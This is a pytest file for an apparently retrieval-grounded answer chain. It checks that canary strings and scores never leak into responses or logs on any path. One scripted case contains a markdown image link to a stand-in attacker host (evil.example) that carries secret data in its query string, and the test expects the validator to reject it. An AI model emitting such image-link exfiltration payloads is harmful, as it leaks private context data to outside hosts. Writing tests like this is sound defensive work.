"""Canary sweep (reliability notes T03): nothing internal leaves the chain on any path.

Chunk texts carry a unique chunk canary, scores an odd unique value, and the model's raw
answer a unique raw canary in a part the validator rejects. Every path (OK, NO_EVIDENCE by
gate and by refusal, each kind of FAILED) is run, and neither canary nor any score may
appear in the serialised response or in any log line at INFO or above. The canaries are
made at run time, never written in this file, so a traceback quoting source code cannot
carry them either.
"""

from __future__ import annotations

import logging
import uuid
from typing import Any

import pytest
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import BaseMessage
from langchain_core.outputs import ChatResult

from groundlock import GenerationStatus, ReasonCode, grounded_answer_chain, load_policy
from tests.builders import make_bundle, make_row
from tests.fakes.chat import ScriptedChatModel

CHUNK = f"CANARY-CHUNK-{uuid.uuid4().hex}"
RAW = f"CANARY-RAW-{uuid.uuid4().hex}"
SCORES = ("0.8765432101", "0.8654321098", "0.5432109876", "1.2345678901")
REFUSAL = load_policy().refusal_text


def _bundle(score: str = SCORES[0], **fields: Any) -> dict[str, Any]:
    text = (
        "Replace the case drain filter element every 500 operating hours. "
        f"Archive reference {CHUNK} is kept by records staff."
    )
    rows = [
        make_row(0, similarity=float(score), chunk_text=text),
        make_row(1, similarity=float(SCORES[1]), chunk_text=f"Pump log {CHUNK} is closed."),
    ]
    return make_bundle(rows, user_question="How often is the case drain filter replaced?", **fields)


class _Exploding(BaseChatModel):
    """A provider whose client raises an error that quotes the raw canary."""

    @property
    def _llm_type(self) -> str:
        return "exploding"

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        raise RuntimeError(RAW)


def _scripted(text: str, **fields: Any) -> ScriptedChatModel:
    return ScriptedChatModel(text=text, **fields)


CASES: list[tuple[str, Any, dict[str, Any], GenerationStatus, ReasonCode | None]] = [
    ("ok", None, _bundle(), GenerationStatus.OK, None),
    ("refusal", _scripted(REFUSAL), _bundle(), GenerationStatus.NO_EVIDENCE, None),
    ("gate", None, _bundle(SCORES[2]), GenerationStatus.NO_EVIDENCE, None),
    ("bad-score", None, _bundle(SCORES[3]), GenerationStatus.FAILED,
     ReasonCode.SIMILARITY_INTEGRITY),
    ("bad-rank", None, _bundle(results=[make_row(3, chunk_text=CHUNK)]),
     GenerationStatus.FAILED, ReasonCode.RANK_INTEGRITY),
    ("unknown-field", None, _bundle(secret=CHUNK), GenerationStatus.FAILED,
     ReasonCode.INPUT_SCHEMA_INVALID),
    ("uncited", _scripted(f"Replace it every 500 hours. [C0]\nAlso {RAW}."),
     _bundle(), GenerationStatus.FAILED, ReasonCode.UNCITED_FACTUAL_STATEMENT),
    ("unsafe", _scripted(f"![x](https://evil.example/?q={RAW}) [C0]"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.UNSAFE_OUTPUT),
    ("malformed", _scripted(f"{RAW} (C0)"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.MALFORMED_CITATION),
    ("invented", _scripted(f"{RAW} [C9]"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.INVALID_CITATION_REFERENCE),
    ("leak", _scripted(f"The evidence says {RAW}. [C0]"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.METADATA_LEAK),
    ("truncated", _scripted(f"Replace it {RAW}. [C0]", finish_reason="length"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.OUTPUT_TRUNCATED),
    ("bad-refusal", _scripted(f"{REFUSAL} {RAW}"), _bundle(), GenerationStatus.FAILED,
     ReasonCode.INVALID_REFUSAL_FORMAT),
    ("filtered", _scripted(RAW, finish_reason="content_filter"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.OUTPUT_CONTENT_FILTERED),
    ("drift", _scripted(f"{RAW} [C0]", reported_model="other-model"), _bundle(),
     GenerationStatus.FAILED, ReasonCode.MODEL_DRIFT),
    ("model-error", _Exploding(), _bundle(), GenerationStatus.FAILED, ReasonCode.MODEL_ERROR),
]  # fmt: skip


@pytest.mark.parametrize(
    ("model", "bundle", "status", "reason"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_no_canary_or_score_leaves_on_any_path(model, bundle, status, reason, caplog):
    chain = grounded_answer_chain(model=model) if model is not None else grounded_answer_chain()
    with caplog.at_level(logging.INFO):
        response = chain.invoke(bundle)
    assert (response.status, response.failure_reason) == (status, reason)
    _assert_clean(response.model_dump_json(), caplog)


def test_a_bug_inside_a_stage_leaks_nothing_either(monkeypatch, caplog):
    def explode(execution: Any, policy: Any) -> None:
        raise RuntimeError(f"{CHUNK} {RAW} {SCORES[0]}")

    monkeypatch.setattr("groundlock.runnables.validate.validate_answer", explode)
    with caplog.at_level(logging.INFO):
        response = grounded_answer_chain().invoke(_bundle())
    assert response.failure_reason is ReasonCode.INTERNAL_ERROR
    _assert_clean(response.model_dump_json(), caplog)


def _assert_clean(serialised: str, caplog: pytest.LogCaptureFixture) -> None:
    assert any(r.name == "groundlock.request" for r in caplog.records)  # logs were captured
    logged = "\n".join(
        f"{r.getMessage()}\n{r.exc_text or ''}\n{getattr(r, 'groundlock', '')}"
        for r in caplog.records
        if r.levelno >= logging.INFO
    )
    for secret in (CHUNK, RAW, *SCORES):
        assert secret not in serialised
        assert secret not in logged
        assert secret not in caplog.text
